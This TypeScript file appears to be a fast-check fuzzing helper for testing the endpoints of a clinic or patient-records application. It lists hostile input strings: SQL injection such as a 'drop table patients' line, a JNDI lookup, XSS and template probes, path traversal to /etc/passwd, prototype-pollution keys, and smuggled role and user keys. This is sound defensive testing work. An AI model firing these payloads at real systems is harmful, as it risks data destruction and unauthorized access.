/**
 * Hostile values for fuzzing endpoints: what an attacker, a broken client or a copy-paste sends
 * instead of what a form would. Strings with NUL and other control characters, 100 KB strings,
 * unusual Unicode (RTL marks, combining characters, astral planes, lone surrogates), SQL and path
 * fragments, wrong types, and malformed ids.
 */
import fc from 'fast-check';

const KB100 = 100 * 1024;

/** Fixed strings worth sending to every text field. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  'Garcia\0',
  '%00',
  'a%00',
  '\x01\x02\x03\x07\x08\x0b\x0c\x1b\x7f',
  '\t\r\n',
  '\u0085\u2028\u2029',
  '\u202eevil\u202c',
  '\u200f\u200e\u061c',
  '\ufeff',
  '\u200b\u200c\u200d\u2060',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z\u0351\u0352\u0357\u035b\u0346\u0315\u035c\u0334\u0320\u0349',
  '😀👩‍⚕️🏥',
  '\u{1d54f}\u{10ffff}\u{e0001}',
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udc00\ud800',
  "' or 1=1 --",
  "'; drop table patients; --",
  '" or ""="',
  "%' or '%'='",
  '\\',
  '%',
  '_',
  '%_%\\',
  '$1',
  '${jndi:ldap://x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd%00.pdf',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9999999999999999999999',
  // Text that is also JSON (a jsonb column once read these back as numbers, objects...).
  'null',
  'undefined',
  'true',
  '2024',
  '"quoted"',
  '{"a":1}',
  '[]',
  '=HYPERLINK("http://x")',
  'a'.repeat(KB100),
  'é'.repeat(KB100 / 2),
  '😀'.repeat(KB100 / 4),
  '\0'.repeat(KB100),
  '%'.repeat(KB100),
  '\ud800'.repeat(KB100 / 2),
];

/** One UTF-16 code unit of the awkward kinds: controls, surrogates, marks, format characters. */
const awkwardUnit = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }),
  fc.integer({ min: 0x7f, max: 0x9f }),
  fc.integer({ min: 0x300, max: 0x36f }),
  fc.integer({ min: 0x200b, max: 0x202e }),
  fc.integer({ min: 0xd800, max: 0xdfff }),
  fc.constantFrom(0xfeff, 0xfffe, 0xffff),
);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: awkwardUnit.map((c) => String.fromCharCode(c)), maxLength: 30 }),
  },
  // A plausible value with something hostile before or after it.
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom('Garcia', 'Maria', 'x@y.test'), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([plain, bad]) => (bad.length > 1000 ? plain + bad : `${bad}${plain}${bad}`)),
  },
);

/** Everything that is not a string: numbers at the edges, other types, structures. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(0, -1, 1.5, -0, NaN, Infinity, -Infinity, Number.MAX_SAFE_INTEGER + 2, 2 ** 31),
  fc.integer(),
  fc.double(),
  fc.bigInt(),
  fc.boolean(),
  fc.constantFrom(null, undefined),
  fc.date({ noInvalidDate: false }),
  fc.constantFrom<unknown>([], [''], [null], {}, { length: 1 }, new Map(), new Set([1])),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(
    fc.string({ maxLength: 10 }),
    fc.oneof(fc.string(), fc.integer(), fc.constant(null)),
    {
      maxKeys: 3,
    },
  ),
  fc.constant(Array.from({ length: 50 }).reduce<unknown>((inner) => ({ a: inner }), 'deep')),
);

/** Ids that look almost right, and ids of the wrong kind. `real` are existing rows' ids. */
export function malformedId(real: readonly string[]): fc.Arbitrary<string> {
  const shapes = (id: string) => [
    id.toUpperCase(),
    ` ${id}`,
    `${id} `,
    `${id}\n`,
    `${id}\0`,
    `${id}%00`,
    id.slice(0, -1),
    `${id}0`,
    id.replaceAll('-', ''),
    `{${id}}`,
    `urn:uuid:${id}`,
    `${id}' or 1=1 --`,
    `${id}/../..`,
  ];
  return fc.oneof(
    fc.constantFrom(
      '',
      '0',
      '-1',
      'null',
      'not-a-uuid',
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff',
      'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
      '../../etc/passwd',
      "' or 1=1 --",
      '%00',
    ),
    fc.constantFrom(...real).chain((id) => fc.constantFrom(...shapes(id))),
    fc.uuid().chain((id) => fc.constantFrom(...shapes(id))),
  );
}

/** Any hostile value: strings, other types, malformed ids. */
export function hostileValue(realIds: readonly string[]): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: hostileString },
    { weight: 2, arbitrary: wrongType },
    { weight: 1, arbitrary: malformedId(realIds) },
  );
}

/** Keys a client must never be able to smuggle into an input. */
const SMUGGLED_KEYS = [
  'clinicId',
  'userId',
  'createdBy',
  'role',
  'mrn',
  '__proto__',
  'constructor',
];

/**
 * Inputs for an endpoint whose well-formed inputs are `shaped` (derived from its schema): those as
 * they are, with one field replaced by a hostile value, with a smuggled key, or a hostile value
 * instead of the whole input.
 */
export function fuzzInput(
  shaped: fc.Arbitrary<Record<string, unknown>>,
  realIds: readonly string[],
): fc.Arbitrary<unknown> {
  const hostile = hostileValue(realIds);
  return fc.oneof(
    { weight: 5, arbitrary: shaped },
    {
      weight: 3,
      arbitrary: fc.tuple(shaped, hostile, fc.nat()).map(([input, bad, pick]) => {
        const keys = Object.keys(input);
        if (keys.length === 0) return input;
        return { ...input, [keys[pick % keys.length]!]: bad };
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          shaped,
          fc.constantFrom(...SMUGGLED_KEYS),
          fc.oneof(fc.constantFrom(...realIds), hostile),
        )
        .map(([input, key, bad]) =>
          Object.defineProperty({ ...input }, key, {
            value: bad,
            enumerable: true,
          }),
        ),
    },
    { weight: 1, arbitrary: hostile },
  );
}
